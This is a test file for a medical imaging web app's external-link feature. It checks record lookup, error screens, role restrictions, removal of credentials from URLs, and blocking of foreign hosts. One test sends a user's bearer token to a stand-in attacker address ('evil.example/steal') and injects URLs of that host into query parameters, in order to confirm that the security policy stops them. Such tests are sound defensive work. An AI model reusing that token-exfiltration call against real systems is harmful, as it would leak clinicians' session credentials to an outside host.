import { request } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Patient, Study } from '#contracts';
import { type ApiReader, apiReader } from './support/product/api.ts';
import { axeViolations } from './support/product/axe.ts';
import {
  DEMO_PASSWORD,
  launchBrowser,
  screenshot,
  signIn,
  visit,
} from './support/product/browser.ts';
import { type Product, startProduct } from './support/product/product.ts';

const SECRET = 'S3cret-of-a-link';

let product: Product;
let browser: Browser;
let ada: Patient;
let study: Study;
beforeAll(async () => {
  product = await startProduct();
  browser = await launchBrowser();
  const reader = await apiReader(product, 'physician');
  ada = await create(reader, '/patients', patientFields('CF-1001', 'Verhoeven'));
  await create(reader, '/patients', patientFields('CF-1002', 'Rautio'));
  study = await create(reader, '/studies', { patientId: ada.id, accessionNumber: 'ACC-77' });
});
afterAll(async () => {
  await browser?.close();
  await product?.stop();
});

const patientFields = (code: string, lastName: string) => ({
  code,
  lastName,
  firstName: 'Ismay',
  birthDate: '1971-03-02',
  sex: 'FEMALE',
});

async function create<T>(reader: ApiReader, path: string, body: object): Promise<T> {
  const response = await reader.send('POST', path, body);
  if (response.status !== 200)
    throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return (await response.json()) as T;
}

/** Navigates to an address as if another program had opened the link. */
const openLink = (page: Page, link: string) => page.goto(`${product.url}/${link}`);
const waitForHash = (page: Page, hash: string) =>
  page.waitForURL((address) => address.hash === hash);

async function checkScreen(page: Page, name: string): Promise<void> {
  await page.getByRole('heading', { level: 1 }).waitFor();
  expect(await axeViolations(page), name).toEqual([]);
  await screenshot(page, name);
}

describe('a valid link', () => {
  it("selects the patient, with and without #, in the product's own format and in that of IHE", async () => {
    const { page, errors, close } = await visit(browser);
    await signIn(page, product.url, 'physician');
    for (const link of [
      '#/external-link?action=openPatient&mrn=CF-1001',
      'external-link?action=openPatient&mrn=CF-1001',
      'IHEInvokeImageDisplay?requestType=PATIENT&patientID=CF-1001%5E%5E%5ENorth',
    ]) {
      await openLink(page, link);
      await waitForHash(page, `#/patient-list?patient=${ada.id}`);
      await page.getByRole('heading', { level: 2, name: /Verhoeven/ }).waitFor();
      await page.evaluate(() => {
        window.location.hash = '#/home';
      });
      await page.getByText('Welcome, Phil').waitFor();
    }
    expect(errors).toEqual([]);
    await close();
  });

  it('opens the study, after sign-in when needed', async () => {
    const { page, close } = await visit(browser);
    await openLink(page, 'external-link?action=openStudy&accession=ACC-77&mrn=CF-1001');
    await page.getByLabel('E-mail').fill('viewer@demo.clockface.example');
    expect(page.url()).toContain('/#/login?redirect=%2Fexternal-link%3Faction%3DopenStudy');
    await page.getByLabel('Password', { exact: true }).fill(DEMO_PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await waitForHash(page, `#/scan?study=${study.id}`);
    await close();
  });

  it('reports that a patient has no study yet and offers to start a scan', async () => {
    const { page, close } = await visit(browser);
    await signIn(page, product.url, 'operator');
    await openLink(page, '#/external-link?action=openPatient&mrn=CF-1002');
    await page.getByText('Ismay Rautio has no prior studies.').waitFor();
    await checkScreen(page, 'no-previous-studies');
    await page.getByRole('button', { name: 'Start scan' }).click();
    await page.waitForURL((address) => address.hash.startsWith('#/prescan-info?patient='));
    await page.goBack();
    await page.getByRole('button', { name: 'Back to patients' }).click();
    await page.waitForURL((address) => address.hash.startsWith('#/patient-list'));
    await close();
  });
});

describe('an invalid link', () => {
  it('leads to a search by name when the record number is unknown', async () => {
    const { page, close } = await visit(browser);
    await signIn(page, product.url, 'physician');
    await openLink(page, '#/external-link?action=openPatient&mrn=CF-9999&name=Rautio%5EIsmay');
    await waitForHash(page, '#/patient-not-found');
    await page.getByRole('heading', { name: 'Medical Record Not Found' }).waitFor();
    await page.getByText('The patient with the record number “CF-9999”').waitFor();
    await checkScreen(page, 'link-patient-not-found');
    await page.keyboard.press('Enter');
    await waitForHash(page, '#/patient-list');
    await page.getByRole('searchbox').waitFor();
    expect(await page.getByRole('searchbox').evaluate((element) => element.matches(':focus'))).toBe(
      true,
    );
    expect(await page.getByRole('searchbox').inputValue()).toBe('Rautio Ismay');
    await page.getByRole('row', { name: /Rautio/ }).waitFor();
    await page.getByRole('row', { name: /Verhoeven/ }).waitFor({ state: 'detached' });
    expect(page.url()).not.toContain('Rautio');
    await screenshot(page, 'link-search-by-name');
    await close();
  });

  it('leads to a search by date when the accession number is unknown', async () => {
    const { page, close } = await visit(browser);
    await signIn(page, product.url, 'physician');
    await openLink(page, 'external-link?action=openStudy&accession=ACC-00&date=2020-02-03');
    await page.getByRole('heading', { name: 'Accession Number Not Found' }).waitFor();
    await checkScreen(page, 'link-study-not-found');
    await page.getByRole('button', { name: 'Search by Date' }).click();
    await page.waitForURL((address) => address.hash.startsWith('#/study-list'));
    await page.getByText('2020-02-03').first().waitFor();
    await page.getByText('No studies match these filters.').waitFor();
    await screenshot(page, 'link-search-by-date');
    await close();
  });

  it('shows both patients and lets the user decide when the study is of another patient', async () => {
    const { page, close } = await visit(browser);
    await signIn(page, product.url, 'physician');
    const link = '#/external-link?action=openStudy&accession=ACC-77&mrn=CF-1002';
    await openLink(page, link);
    await page.getByRole('heading', { name: 'Patient Information Mismatch' }).waitFor();
    const card = page.getByRole('alert');
    for (const shown of ['Rautio, Ismay', 'CF-1002', 'Verhoeven, Ismay', 'CF-1001', 'ACC-77']) {
      await card.getByText(shown).first().waitFor();
    }
    await checkScreen(page, 'link-mismatch');
    await page.getByRole('button', { name: 'Don’t open' }).click();
    await page.waitForURL((address) => address.hash.startsWith('#/patient-list'));
    await openLink(page, link);
    await page.getByRole('button', { name: 'Confirm Patient Info' }).click();
    await waitForHash(page, `#/scan?study=${study.id}`);
    await close();
  });

  it('shows an error when the action is unknown', async () => {
    const { page, close } = await visit(browser);
    await signIn(page, product.url, 'physician');
    await openLink(page, 'external-link?action=dropTables&mrn=CF-1001');
    await page.getByRole('heading', { name: 'Failed to open the provided URL.' }).waitFor();
    await checkScreen(page, 'link-failed');
    await page.getByRole('button', { name: 'Go to Home' }).click();
    await waitForHash(page, '#/home');
    await close();
  });
});

describe('a link opened by a blind annotator', () => {
  it('is rejected and discloses nothing', async () => {
    const { page, close } = await visit(browser);
    const urls: string[] = [];
    page.on('request', (request) => urls.push(request.url()));
    await signIn(page, product.url, 'annotator');
    await openLink(page, '#/external-link?action=openPatient&mrn=CF-1001');
    await page.getByText('Your role works without patient identities').waitFor();
    await checkScreen(page, 'link-blind');
    expect(await page.content()).not.toContain('Verhoeven');
    expect(urls.filter((url) => /\/patients|\/accession/.test(url))).toEqual([]);
    await close();
  });
});

describe('the name and password in a link', () => {
  it('fill in the form on the same machine, are removed from address and history, and are not submitted automatically', async () => {
    const { page, close } = await visit(browser);
    const sent: string[] = [];
    page.on('request', (request) =>
      sent.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`),
    );
    const email = 'physician@demo.clockface.example';
    const query = `action=openPatient&mrn=CF-1001&username=${email}&password=${SECRET}`;
    await openLink(page, `external-link?${query}`);
    await page.getByText('A link filled in this form').waitFor();
    expect(await page.getByLabel('E-mail').inputValue()).toBe(email);
    expect(await page.getByLabel('Password', { exact: true }).inputValue()).toBe(SECRET);
    expect(page.url()).not.toContain(SECRET);
    await screenshot(page, 'link-credentials');
    await page.waitForTimeout(300);
    expect(sent.filter((request) => request.includes('login'))).toEqual([]);
    // The first request is the link itself; no later request contains the credentials.
    expect(sent.filter((request) => request.includes(SECRET))).toHaveLength(1);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('alert').waitFor();
    await page.getByLabel('Password', { exact: true }).fill(DEMO_PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await waitForHash(page, `#/patient-list?patient=${ada.id}`);
    expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(SECRET);
    for (let steps = 0; steps < 3; steps += 1) {
      await page.goBack();
      expect(page.url()).not.toContain(SECRET);
    }
    expect(product.output()).not.toContain(SECRET);
    await close();
  });

  it('are removed by the first redirect on any other host', async () => {
    const { port } = new URL(product.url);
    const location = await new Promise<string>((resolve, reject) => {
      const path = `/external-link?mrn=CF-1001&username=ada&password=${SECRET}`;
      const headers = { host: 'clinic.example' };
      request({ host: '127.0.0.1', port, path, headers }, (response) => {
        response.resume();
        resolve(response.headers.location ?? '');
      })
        .on('error', reject)
        .end();
    });
    expect(location).toBe('./#/external-link?mrn=CF-1001');
  });
});

describe('an address with URLs of other hosts', () => {
  it("sends requests and token only to the product's own server", async () => {
    const { page, close } = await visit(browser);
    await signIn(page, product.url, 'physician');
    const token = await page.evaluate(() => localStorage.getItem('clockface.token') ?? '');
    expect(token.length).toBeGreaterThan(20);
    const requests: { readonly url: string; readonly text: string }[] = [];
    await page.context().route('**/*', async (route) => {
      const sent = route.request();
      requests.push({ url: sent.url(), text: JSON.stringify(await sent.allHeaders()) });
      if (new URL(sent.url()).origin === product.url) await route.continue();
      else await route.fulfill({ status: 200, body: '{}' });
    });
    const hostileUrl = encodeURIComponent('https://evil.example/config.json');
    const names = ['url', 'config', 'datasource', 'baseUrl', 'redirect'];
    const parameters = names.map((name) => `${name}=${hostileUrl}`).join('&');
    for (const address of [`?${parameters}#/home`, `#/home?${parameters}`]) {
      await openLink(page, address);
      await page.getByText('Welcome, Phil').waitFor();
    }
    await openLink(page, `#/external-link?action=openPatient&mrn=CF-1001&${parameters}`);
    await waitForHash(page, `#/patient-list?patient=${ada.id}`);
    await page.getByRole('heading', { level: 2, name: /Verhoeven/ }).waitFor();
    expect(requests.length).toBeGreaterThan(20);
    const foreignRequests = requests.filter(({ url }) => new URL(url).origin !== product.url);
    expect(foreignRequests.map(({ url }) => url)).toEqual([]);
    // The check detects a sent token.
    expect(requests.some(({ text }) => text.includes(token))).toBe(true);
    // The content security policy blocks other hosts.
    const blockedBy = await page.evaluate(async (bearer) => {
      const violation = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(event.effectiveDirective),
        );
      });
      const headers = { authorization: `Bearer ${bearer}` };
      await fetch('https://evil.example/steal', { headers }).catch(() => undefined);
      return violation;
    }, token);
    expect(blockedBy).toBe('connect-src');
    expect(requests.some(({ url }) => url.includes('evil.example/steal'))).toBe(false);
    await close();
  });
});
